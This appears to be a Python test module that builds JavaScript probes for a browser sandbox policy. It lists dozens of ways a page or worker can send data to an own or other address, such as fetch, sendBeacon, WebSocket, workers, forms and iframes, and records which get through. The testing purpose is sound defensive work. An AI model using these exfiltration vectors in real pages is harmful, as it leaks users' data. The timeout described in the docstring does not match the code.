"""Ways to get a word out of a page or a worker. Each is JavaScript in which OWN and OTHER are addresses.

Each attack asks for a path that ends in its own name, so that a server's log tells which one got through.
Leaving the page (a link, a new window) is not among them: no policy stops it, and decisions/0004 says so.
"""

ANYWHERE = {
    "fetch": "await fetch(URL)",
    "fetch-post": "await fetch(URL, { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true })",
    "xhr": "{ const x = new XMLHttpRequest(); x.open('GET', URL); x.send(); }",
    "xhr-sync": "{ const x = new XMLHttpRequest(); x.open('GET', URL, false); x.send(); }",
    "websocket": "new WebSocket(URL.replace('http', 'ws'))",
    "eventsource": "new EventSource(URL)",
    "import": "await import(URL)",
    "font": "await new FontFace('f', `url(${URL})`).load()",
    "worker": "new Worker(URL)",
    "module-worker": "new Worker(URL, { type: 'module' })",
    "blob-worker-importscripts": "new Worker(window_blob(`importScripts('${URL}')`))",
    "blob-worker-fetch": "new Worker(window_blob(`fetch('${URL}')`))",
    "blob-module-worker-import": "new Worker(window_blob(`import '${URL}'`), { type: 'module' })",
    "blob-worker-nested": "new Worker(window_blob(`new Worker('${URL}')`))",
    "function": "new Function('url', 'fetch(url)')(URL)",
    "cache": "await (await caches.open('c')).add(URL)",
}

WORKER = {
    **ANYWHERE,
    "importscripts": "importScripts(URL)",
}

PAGE = {
    **ANYWHERE,
    "beacon": "navigator.sendBeacon(URL, 'secret')",
    "image": "new Image().src = URL",
    "script": "add('script', { src: URL })",
    "module-script": "add('script', { type: 'module', src: URL })",
    "stylesheet": "add('link', { rel: 'stylesheet', href: URL })",
    "prefetch": "add('link', { rel: 'prefetch', href: URL })",
    "preload": "add('link', { rel: 'preload', as: 'fetch', crossOrigin: '', href: URL })",
    "modulepreload": "add('link', { rel: 'modulepreload', href: URL })",
    "manifest": "add('link', { rel: 'manifest', href: URL })",
    "icon": "add('link', { rel: 'icon', href: URL })",
    "iframe": "add('iframe', { src: URL })",
    "object": "add('object', { data: URL })",
    "embed": "add('embed', { src: URL })",
    "video": "add('video', { src: URL, preload: 'auto', poster: URL })",
    "audio": "add('audio', { src: URL, preload: 'auto' })",
    "style-image": "document.body.style.backgroundImage = `url(${URL})`",
    "style-import": "add('style', { textContent: `@import '${URL}';` })",
    "form-get": "submit('get')",
    "form-post": "submit('post')",
    "ping": "add('a', { href: '#x', ping: URL }).click()",
    "shared-worker": "new SharedWorker(URL)",
    "service-worker": "await navigator.serviceWorker.register(URL)",
    "worklet": "await new AudioContext().audioWorklet.addModule(URL)",
    "svg": "document.body.append(Object.assign(document.createElementNS('http://www.w3.org/2000/svg', 'image'), {}))"
    ", document.body.lastChild.setAttribute('href', URL)",
    "frame-fetch": "add('iframe', {}).contentWindow.fetch(URL)",
    "frame-srcdoc": "add('iframe', { srcdoc: `<img src='${URL}'>` })",
}

HELPERS = """
const window_blob = (text) => URL_.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const add = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
};
const submit = (method) => {
  const frame = add('iframe', { name: `f${Math.random()}` });
  const form = add('form', { method, action: URL, target: frame.name });
  form.append(Object.assign(document.createElement('input'), { name: 'secret', value: 'x' }));
  form.submit();
};
"""


def script(attacks: dict[str, str], targets: list[str], mark: str) -> str:
    """JavaScript that tries every attack on every target and stops for none that fails. `mark` is put into
    each path before the attack's name. Attacks still under way after a second are left alone."""
    tries = [
        f"await attempt(async () => {{ const URL = {target + mark + '-' + name!r}; {HELPERS} {attack}; }});"
        for target in targets
        for name, attack in attacks.items()
    ]
    return (
        "{ const URL_ = URL; const attempt = async (attack) => {"
        " try { await Promise.race([attack(), new Promise((done) => setTimeout(done, 300))]); } catch {} };"
        + "\n".join(tries)
        + "}"
    )
